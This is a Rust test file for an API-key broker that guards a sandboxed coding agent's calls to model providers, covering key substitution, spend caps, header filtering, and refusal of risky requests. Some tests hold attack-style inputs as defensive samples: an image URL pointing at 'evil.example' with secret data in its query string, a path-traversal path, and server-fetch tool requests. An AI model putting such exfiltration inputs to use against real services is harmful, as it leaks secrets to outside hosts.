//! The broker end to end on the loopback of this process: a scripted provider, the real server,
//! requests as OpenCode sends them. (The whole path through the sandbox and a real OpenCode is
//! in the `run_e2e` suite.)

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use hyper::{Request, Response};
use hyper_util::rt::TokioIo;
use ocsb_policy::settings::SpendLimit;

use super::keys::{Auth, BaseUrl, parse_keys_file};
use super::ledger::{self, Ledger};
use super::prices::Prices;
use super::server;
use ocsb_sandbox::statefs::StateDir;

/// What the scripted provider saw: method, path, headers, body.
type Seen = Arc<Mutex<Vec<(String, String, hyper::HeaderMap, Vec<u8>)>>>;

const ANTHROPIC_SSE: &[&str] = &[
    "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":100,\
     \"cache_read_input_tokens\":1000,\"cache_creation_input_tokens\":10,\"output_tokens\":1}}}\n\n",
    "event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"delta\":{\"text\":\"Hello\"}}\n\n",
    "event: message_delta\ndata: {\"type\":\"message_delta\",\"usage\":{\"output_tokens\":40}}\n\n",
    "event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n",
];

/// A provider on 127.0.0.1 that answers every request with [`ANTHROPIC_SSE`], one event every
/// `gap`, and records what it was sent.
async fn provider(gap: Duration) -> (SocketAddr, Seen) {
    provider_of(gap, ANTHROPIC_SSE).await
}

/// The same with other events.
async fn provider_of(gap: Duration, events: &'static [&'static str]) -> (SocketAddr, Seen) {
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let seen: Seen = Arc::default();
    let s = seen.clone();
    tokio::spawn(async move {
        loop {
            let (stream, _) = l.accept().await.unwrap();
            let s = s.clone();
            tokio::spawn(async move {
                let svc = hyper::service::service_fn(move |req: Request<Incoming>| {
                    let s = s.clone();
                    async move {
                        let (parts, body) = req.into_parts();
                        let body = body.collect().await.unwrap().to_bytes().to_vec();
                        s.lock().unwrap().push((
                            parts.method.to_string(),
                            parts.uri.to_string(),
                            parts.headers,
                            body,
                        ));
                        let (mut tx, rx) =
                            http_body_util::channel::Channel::<Bytes, std::convert::Infallible>::new(1);
                        tokio::spawn(async move {
                            for e in events {
                                if tx.send_data(Bytes::from_static(e.as_bytes())).await.is_err() {
                                    return;
                                }
                                tokio::time::sleep(gap).await;
                            }
                        });
                        let mut r = Response::new(rx);
                        r.headers_mut().insert("content-type", "text/event-stream".parse().unwrap());
                        Ok::<_, std::convert::Infallible>(r)
                    }
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(stream), svc)
                    .await;
            });
        }
    });
    (addr, seen)
}

struct Broker {
    addr: SocketAddr,
    ledger: Arc<Ledger>,
    _stop: tokio::sync::oneshot::Sender<()>,
    _dir: tempfile::TempDir,
    dir: std::path::PathBuf,
}

async fn broker(upstream: SocketAddr, limit: SpendLimit) -> Broker {
    broker_of("anthropic", upstream, limit).await
}

/// A broker with the key of `provider` (a known id sets how the key is sent).
async fn broker_of(provider: &str, upstream: SocketAddr, limit: SpendLimit) -> Broker {
    let d = tempfile::tempdir().unwrap();
    let sd = StateDir::open(d.path()).unwrap();
    let ledger = Arc::new(Ledger::open(&sd, &super::Files::for_tests(), "s1", limit).unwrap());
    let keys = format!("{provider} REAL-KEY http://{upstream}/v1\n");
    let upstreams = parse_keys_file(&keys, std::path::Path::new("/keys")).unwrap();
    let auth = if provider == "anthropic" { Auth::XApiKey } else { Auth::Bearer };
    assert_eq!(
        (upstreams[0].auth, &upstreams[0].base),
        (auth, &BaseUrl::parse(&format!("http://{upstream}/v1")).unwrap())
    );
    let mut prices = Prices::default();
    prices.add_config(
        &serde_json::json!({"provider": {"anthropic": {"models": {"claude-x": {"cost":
        {"input": 3, "output": 15, "cache_read": 0.3, "cache_write": 3.75}}}}}}),
        super::prices::Source::User,
    );
    // A price only the project's files give (the agent's to write).
    prices.add_config(
        &serde_json::json!({"provider": {"anthropic": {"models": {"claude-agent": {"cost": {"input": 0.000001, "output": 0.000001}}}}}}),
        super::prices::Source::Agent,
    );
    let cfg = Arc::new(server::Config {
        upstreams,
        token: "PLACEHOLDER".into(),
        prices,
        ledger: ledger.clone(),
        limit_set_at: "local sandbox.conf:1".into(),
        tls: tls(),
    });
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let (tx, rx) = tokio::sync::oneshot::channel();
    tokio::spawn(server::serve(l, cfg, rx));
    Broker { addr, ledger, _stop: tx, dir: d.path().to_path_buf(), _dir: d }
}

/// A TLS client as the launcher's (the scripted providers speak plain HTTP: no roots needed).
fn tls() -> Arc<rustls::ClientConfig> {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let cfg = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    Arc::new(cfg)
}

/// One request to the broker; status and the whole body.
async fn ask(b: &Broker, method: &str, path: &str, key: &str, body: &str) -> (u16, String) {
    ask_with(b, method, path, key, body, &[]).await
}

async fn ask_with(
    b: &Broker,
    method: &str,
    path: &str,
    key: &str,
    body: &str,
    extra: &[(&str, &str)],
) -> (u16, String) {
    let tcp = tokio::net::TcpStream::connect(b.addr).await.unwrap();
    let (mut s, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tcp)).await.unwrap();
    tokio::spawn(conn);
    let req = Request::builder()
        .method(method)
        .uri(path)
        .header("host", b.addr.to_string())
        .header("x-api-key", key)
        .header("anthropic-version", "2023-06-01")
        .header("content-type", "application/json");
    let req = extra.iter().fold(req, |r, (k, v)| r.header(*k, *v));
    let req = req.body(Full::new(Bytes::from(body.to_string()))).unwrap();
    let r = s.send_request(req).await.unwrap();
    let status = r.status().as_u16();
    (status, String::from_utf8(r.into_body().collect().await.unwrap().to_bytes().to_vec()).unwrap())
}

const ASK: &str =
    r#"{"model":"claude-x","stream":true,"max_tokens":10,"messages":[{"role":"user","content":"hi"}]}"#;

fn ledger_lines(b: &Broker) -> Vec<ledger::Entry> {
    std::fs::read_to_string(b.dir.join(super::Files::for_tests().ledger))
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[tokio::test]
async fn the_real_key_goes_upstream_and_the_reply_comes_back_unchanged() {
    let (up, seen) = provider(Duration::from_millis(5)).await;
    let b = broker(up, SpendLimit::default()).await;
    let (status, body) = ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", ASK).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body, ANTHROPIC_SSE.concat(), "the event stream passes through byte for byte");
    let seen = seen.lock().unwrap();
    let (method, path, headers, sent) = &seen[0];
    assert_eq!((method.as_str(), path.as_str()), ("POST", "/v1/messages"));
    assert_eq!(headers["x-api-key"], "REAL-KEY");
    assert_eq!(headers["anthropic-version"], "2023-06-01", "the provider's own headers pass");
    assert_eq!(headers["host"], up.to_string());
    assert!(!headers.contains_key("authorization"));
    let sent: serde_json::Value = serde_json::from_slice(sent).unwrap();
    assert_eq!(sent, serde_json::from_str::<serde_json::Value>(ASK).unwrap(), "the body as judged");
    let lines = ledger_lines(&b);
    assert_eq!(lines.len(), 1);
    let e = &lines[0];
    assert_eq!(
        (e.provider.as_str(), e.model.as_str(), e.session.as_str(), e.status),
        ("anthropic", "claude-x", "s1", 200)
    );
    assert_eq!((e.usage.input, e.usage.output, e.usage.cache_read, e.usage.cache_write), (100, 40, 1000, 10));
    // 100×3 + 40×15 + 1000×0.3 + 10×3.75 per million
    assert!((e.cost.unwrap() - 0.0012375).abs() < 1e-12, "{:?}", e.cost);
}

#[tokio::test]
async fn without_the_placeholder_nothing_reaches_the_provider() {
    let (up, seen) = provider(Duration::ZERO).await;
    let b = broker(up, SpendLimit::default()).await;
    for key in ["", "REAL-KEY", "PLACEHOLDEX", "PLACEHOLDER2"] {
        let (status, body) = ask(&b, "POST", "/anthropic/messages", key, ASK).await;
        assert_eq!(status, 401, "{key}: {body}");
    }
    let (status, body) = ask(&b, "POST", "/openai/chat/completions", "PLACEHOLDER", ASK).await;
    assert!(status == 404 && body.contains("no key for provider `openai`"), "{body}");
    for (m, p) in [
        ("POST", "/anthropic/files"),
        ("GET", "/anthropic/organizations/x"),
        ("POST", "/anthropic/../v1/messages"),
    ] {
        let (status, body) = ask(&b, m, p, "PLACEHOLDER", ASK).await;
        assert!(status == 403 || status == 404, "{m} {p}: {status} {body}");
    }
    assert!(seen.lock().unwrap().is_empty(), "the provider was never contacted");
}

#[tokio::test]
async fn the_cap_stops_the_next_request_with_a_message_opencode_shows() {
    let (up, seen) = provider(Duration::ZERO).await;
    let b = broker(up, SpendLimit { day: None, session: Some(0.001) }).await;
    assert_eq!(ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", ASK).await.0, 200);
    let (status, body) = ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", ASK).await;
    assert_eq!(status, 402);
    let v: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(v["type"], "error", "Anthropic's error shape");
    let msg = v["error"]["message"].as_str().unwrap();
    assert!(
        msg.contains("$0.00 per run (OCSB_SPEND_LIMIT) is reached") && msg.contains("local sandbox.conf:1"),
        "{msg}"
    );
    assert_eq!(seen.lock().unwrap().len(), 1, "the refused request never left");
    // Free calls still pass.
    assert_eq!(ask(&b, "POST", "/anthropic/messages/count_tokens", "PLACEHOLDER", ASK).await.0, 200);
    let lines = ledger_lines(&b);
    assert_eq!(
        lines.iter().map(|e| e.status).collect::<Vec<_>>(),
        vec![200, 402],
        "free calls are not written"
    );
    assert_eq!(b.ledger.view().refused, 1);
}

#[tokio::test]
async fn a_model_without_a_price_is_refused_while_a_limit_is_set() {
    let (up, seen) = provider(Duration::ZERO).await;
    let b = broker(up, SpendLimit { day: Some(10.0), session: None }).await;
    let (status, body) =
        ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", &ASK.replace("claude-x", "claude-free")).await;
    assert!(
        status == 403 && body.contains("no price is known") && body.contains("anthropic/claude-free"),
        "{body}"
    );
    let (status, body) =
        ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", &ASK.replace("claude-x", "claude-agent")).await;
    assert!(status == 403 && body.contains("only files the agent can write"), "{body}");
    assert!(seen.lock().unwrap().is_empty());
    // Without a limit the agent's price is used (nothing to protect), and the call goes.
    let b = broker(up, SpendLimit::default()).await;
    assert_eq!(
        ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", &ASK.replace("claude-x", "claude-agent"))
            .await
            .0,
        200
    );
}

#[tokio::test]
async fn a_reply_is_counted_even_when_opencode_hangs_up() {
    let (up, _seen) = provider(Duration::from_millis(100)).await;
    let b = broker(up, SpendLimit::default()).await;
    let tcp = tokio::net::TcpStream::connect(b.addr).await.unwrap();
    let (mut s, conn) = hyper::client::conn::http1::handshake(TokioIo::new(tcp)).await.unwrap();
    let conn = tokio::spawn(conn);
    let req = Request::post("/anthropic/messages")
        .header("host", "x")
        .header("x-api-key", "PLACEHOLDER")
        .body(Full::new(Bytes::from(ASK)))
        .unwrap();
    let mut r = s.send_request(req).await.unwrap();
    let first = r.body_mut().frame().await.unwrap().unwrap();
    assert!(first.data_ref().is_some());
    drop(r);
    drop(s);
    conn.abort();
    // The provider goes on for ~300 ms; the broker reads it to the end.
    for _ in 0..50 {
        if !ledger_lines(&b).is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let lines = ledger_lines(&b);
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0].usage.output, 40, "the usage at the end of the reply was read");
}

#[tokio::test]
async fn only_the_sdks_headers_and_client_side_calls_reach_the_provider() {
    let (up, seen) = provider(Duration::ZERO).await;
    let b = broker(up, SpendLimit::default()).await;
    let extra = [
        ("openai-organization", "org-other"),
        ("expect", "100-continue"),
        ("cookie", "a=b"),
        ("anthropic-beta", "interleaved-thinking-2025-05-14"),
    ];
    assert_eq!(ask_with(&b, "POST", "/anthropic/messages", "PLACEHOLDER", ASK, &extra).await.0, 200);
    {
        let seen = seen.lock().unwrap();
        let h = &seen[0].2;
        assert!(
            !h.contains_key("openai-organization") && !h.contains_key("expect") && !h.contains_key("cookie"),
            "{h:?}"
        );
        assert_eq!(h["anthropic-beta"], "interleaved-thinking-2025-05-14");
    }
    let mcp = [("anthropic-beta", "interleaved-thinking-2025-05-14, mcp-client-2025-04-04")];
    let (status, body) = ask_with(&b, "POST", "/anthropic/messages", "PLACEHOLDER", ASK, &mcp).await;
    assert!(status == 403 && body.contains("mcp-client-2025-04-04"), "{body}");
    let fetch = ASK.replace(
        "\"messages\"",
        "\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\"}],\"messages\"",
    );
    let (status, body) = ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", &fetch).await;
    assert!(status == 403 && body.contains("server tool"), "{body}");
    assert_eq!(seen.lock().unwrap().len(), 1, "the refused calls never left");
}

#[tokio::test]
async fn calls_under_way_count_against_the_cap() {
    let (up, _seen) = provider(Duration::from_millis(150)).await;
    let b = Arc::new(broker(up, SpendLimit { day: None, session: Some(0.01) }).await);
    // Up to 100,000 output tokens at $15 a million: $1.50 reserved while it runs.
    let big = ASK.replace("\"max_tokens\":10", "\"max_tokens\":100000");
    let first = {
        let (b, big) = (b.clone(), big.clone());
        tokio::spawn(async move { ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", &big).await })
    };
    // The first is under way once the provider has it.
    while _seen.lock().unwrap().is_empty() {
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let (status, body) = ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", &big).await;
    assert!(
        status == 402 && body.contains("per run"),
        "a second call while the first may still cost $1.50: {body}"
    );
    assert_eq!(first.await.unwrap().0, 200);
    // The first cost $0.0012375: its reservation is gone, and the cap has room again.
    assert_eq!(ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", ASK).await.0, 200);
}

const NO_USAGE: &[&str] = &["event: content_block_delta\ndata: {\"type\":\"content_block_delta\"}\n\n"];

#[tokio::test]
async fn a_reply_without_usage_costs_its_reservation() {
    let (up, _seen) = provider_of(Duration::ZERO, NO_USAGE).await;
    let b = broker(up, SpendLimit::default()).await;
    assert_eq!(ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", ASK).await.0, 200);
    let e = &ledger_lines(&b)[0];
    // The reservation: every body byte an input token at $3 a million, 10 output tokens at $15.
    let sent = serde_json::to_vec(&serde_json::from_str::<serde_json::Value>(ASK).unwrap()).unwrap();
    let want = sent.len() as f64 * 3.0 / 1e6 + 10.0 * 15.0 / 1e6;
    assert!((e.cost.unwrap() - want).abs() < 1e-12, "{:?} vs {want}", e.cost);
}

#[tokio::test]
async fn a_streamed_chat_completion_is_asked_for_its_usage() {
    let (up, seen) = provider(Duration::ZERO).await;
    let b = broker(up, SpendLimit::default()).await;
    let chat = r#"{"model":"claude-x","stream":true,"messages":[{"role":"user","content":"hi"}]}"#;
    // The client's own bearer placeholder goes no further than the broker either.
    let (status, body) = ask_with(
        &b,
        "POST",
        "/anthropic/chat/completions",
        "PLACEHOLDER",
        chat,
        &[("authorization", "Bearer PLACEHOLDER")],
    )
    .await;
    assert_eq!(status, 200, "the rewritten body arrives whole: {body}");
    let seen = seen.lock().unwrap();
    let (_, path, headers, sent) = &seen[0];
    assert_eq!(path, "/v1/chat/completions");
    assert!(!headers.contains_key("authorization"), "{headers:?}");
    assert_eq!(headers["content-length"], sent.len().to_string());
    let v: serde_json::Value = serde_json::from_slice(sent).unwrap();
    assert_eq!(v["stream_options"]["include_usage"], true);
}

#[tokio::test]
async fn a_body_that_makes_the_provider_fetch_is_refused_even_to_count_tokens() {
    let (up, seen) = provider(Duration::ZERO).await;
    let b = broker(up, SpendLimit::default()).await;
    let fetch = r#"{"model":"claude-x","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?d=secret"}}]}]}"#;
    for path in ["/anthropic/messages", "/anthropic/messages/count_tokens"] {
        let (status, body) = ask(&b, "POST", path, "PLACEHOLDER", fetch).await;
        assert!(status == 403 && body.contains("fetch"), "{path}: {body}");
    }
    assert!(seen.lock().unwrap().is_empty());
}

/// A provider that ends a close-delimited reply with a reset once its last event is out.
async fn hanging_up_provider() -> SocketAddr {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let (mut s, _) = l.accept().await.unwrap();
            tokio::spawn(async move {
                let mut buf = vec![0u8; 65536];
                let _ = s.read(&mut buf).await;
                let head = "HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\nconnection: close\r\n\r\n";
                let _ = s.write_all(head.as_bytes()).await;
                for e in ANTHROPIC_SSE {
                    let _ = s.write_all(e.as_bytes()).await;
                }
                let _ = s.flush().await;
                tokio::time::sleep(Duration::from_millis(50)).await;
                // A reset rather than an orderly end.
                let _ = s.set_zero_linger();
                drop(s);
            });
        }
    });
    addr
}

#[tokio::test]
async fn a_whole_reply_ends_cleanly_however_the_provider_hangs_up() {
    let up = hanging_up_provider().await;
    let b = broker(up, SpendLimit::default()).await;
    let (status, body) = ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", ASK).await;
    assert_eq!(status, 200);
    assert_eq!(body, ANTHROPIC_SSE.concat(), "the reply is whole and ends without an error");
    assert_eq!(ledger_lines(&b)[0].usage.output, 40);
}

/// A call that reads what the account stores (an item of an earlier response by id) is refused
/// like `previous_response_id`, in the provider's own error shape, and never leaves; the same
/// call without it goes.
#[tokio::test]
async fn a_call_that_reads_stored_state_is_refused_in_the_providers_shape() {
    let (up, seen) = provider(Duration::ZERO).await;
    let b = broker_of("openai", up, SpendLimit::default()).await;
    let body = |item: &str| {
        format!(
            r#"{{"model":"gpt-5","store":false,"input":[{{"role":"user","content":[{{"type":"input_text","text":"hi"}}{item}]}}]}}"#
        )
    };
    let mut errors = Vec::new();
    for refused in [
        body(r#",{"type":"item_reference","id":"msg_1"}"#),
        body("").replace("\"store\":false", "\"previous_response_id\":\"resp_1\""),
    ] {
        let (status, reply) = ask(&b, "POST", "/openai/responses", "PLACEHOLDER", &refused).await;
        assert_eq!(status, 403, "{reply}");
        let v: serde_json::Value = serde_json::from_str(&reply).unwrap();
        assert_eq!(
            (&v["error"]["type"], &v["error"]["code"]),
            (&"permission_error".into(), &"permission_error".into())
        );
        errors.push(v["error"]["message"].as_str().unwrap().to_string());
    }
    assert!(errors[0].contains("`item_reference` reads an item stored in the account"), "{errors:?}");
    assert!(
        errors[1].contains("`previous_response_id` reads a response stored in the account"),
        "{errors:?}"
    );
    assert!(seen.lock().unwrap().is_empty(), "the refused calls never left");
    assert_eq!(ask(&b, "POST", "/openai/responses", "PLACEHOLDER", &body("")).await.0, 200);
    assert_eq!(seen.lock().unwrap().len(), 1);
    // Anthropic's shape for a stored file.
    let b = broker(up, SpendLimit::default()).await;
    let file = r#"{"model":"claude-x","max_tokens":10,"messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"file_1"}}]}]}"#;
    let (status, reply) = ask(&b, "POST", "/anthropic/messages", "PLACEHOLDER", file).await;
    let v: serde_json::Value = serde_json::from_str(&reply).unwrap();
    assert!(status == 403 && v["type"] == "error" && v["error"]["type"] == "permission_error", "{reply}");
    assert!(
        v["error"]["message"].as_str().unwrap().contains("reads a file stored in the account"),
        "{reply}"
    );
    assert_eq!(seen.lock().unwrap().len(), 1);
}
